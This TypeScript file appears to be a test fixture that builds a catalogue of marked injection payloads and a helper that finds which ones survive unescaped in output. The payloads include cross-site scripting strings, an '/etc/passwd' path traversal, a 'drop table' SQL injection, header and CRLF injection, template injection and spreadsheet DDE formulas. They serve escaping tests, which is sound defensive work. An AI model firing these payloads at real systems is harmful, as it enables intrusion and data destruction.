/**
 * A text that does harm where it is not escaped. Its marker is of this one alone, so that the text is found wherever it went. A host
 * that it asks for is `x.test`, which is nobody’s; what it runs is `alert`.
 */
export type Payload = { readonly marker: string; readonly text: string };

/** Each fits in 40 characters, the length of a line of an address, but for the last. */
const TEXTS: readonly string[] = [
  // Elements that run or ask for something.
  `<script>alert('MARK')</script>`,
  `<img src=x onerror=alert('MARK')>`,
  `<svg/onload=alert('MARK')>`,
  `<svg><script>alert('MARK')</script>`,
  `<iframe src=//x.test/MARK></iframe>`,
  `<object data=//x.test/MARK></object>`,
  `<base href=//x.test/MARK/>`,
  `<meta http-equiv=refresh content=0;MARK>`,
  `<link rel=stylesheet href=//x.test/MARK>`,
  `<form action=//x.test/MARK><button>`,
  `<p style=background:url(//x.test/MARK)>`,
  `<math><mi/onclick=alert('MARK')>`,
  `<b id=MARK onfocus=alert(1) tabindex=0>`,
  // Addresses.
  `javascript:alert('MARK')`,
  `data:text/html,<script>alert('MARK')`,
  `<a href=javascript:alert('MARK')>a</a>`,
  `<a href=" java&#9;script:alert('MARK')">`,
  `[MARK](javascript:alert(1))`,
  `../../../../etc/passwd?MARK`,
  // What ends the place where it stands.
  `" autofocus onfocus="alert('MARK')`,
  `' autofocus onfocus='alert(/MARK/)`,
  `</script><script>alert('MARK')//`,
  `</title><script>alert('MARK')</script>`,
  `</textarea><svg onload=alert('MARK')>`,
  `--><svg onload=alert('MARK')><!--`,
  `]]><x>MARK</x><![CDATA[`,
  `</loc><x>MARK</x>&MARK;`,
  `"}</script><svg onload=alert('MARK')>`,
  `&lt;svg onload=alert('MARK')&gt;`,
  `MARK'); drop table orders;--`,
  `MARK\r\nBcc: eve@x.test`,
  `%0d%0aSet-Cookie: MARK=1`,
  'END:VEVENT\r\nATTENDEE:MARK',
  // Templates and style sheets.
  'MARK {{7*7}} {{constructor}}',
  'MARK ${7*7} #{7*7}',
  'MARK <%= 7*7 %>',
  `MARK;}*{width:expression(alert(1))}`,
  // Formulas of a spreadsheet.
  `=HYPERLINK("//x.test/MARK","a")`,
  `+1+cmd|'MARK'!A0`,
  `-2+3+cmd|'MARK'!A0`,
  '@SUM(1+1) MARK',
  '\t=1+1 MARK',
  '\r=1+1 MARK',
  // Characters.
  'MARK \u202Elive\u202C \u2066right\u2069',
  'MARK\u200B\u200D\uFEFF\u00ADzero',
  'MARK \u0000 nul',
  'MARK \uD800 half',
  'MARK 🍺👩‍👩‍👧 Zoë',
  'عبد الله MARK ابن خلدون',
  // Words without an end.
  `MARK${'W'.repeat(36)}`,
  `MARK${'Gosforthbury'.repeat(15)}`,
];

export const PAYLOADS: readonly Payload[] = TEXTS.map((text, nth) => {
  const marker = `q.${String(nth + 1).padStart(2, '0')}`;
  return { marker, text: text.replaceAll('MARK', marker) };
});

/** The payloads of which something is in a text. */
export function payloadsIn(text: string): readonly Payload[] {
  const markers = new Set(text.match(/q\.\d\d/g));
  return PAYLOADS.filter(({ marker }) => markers.has(marker));
}
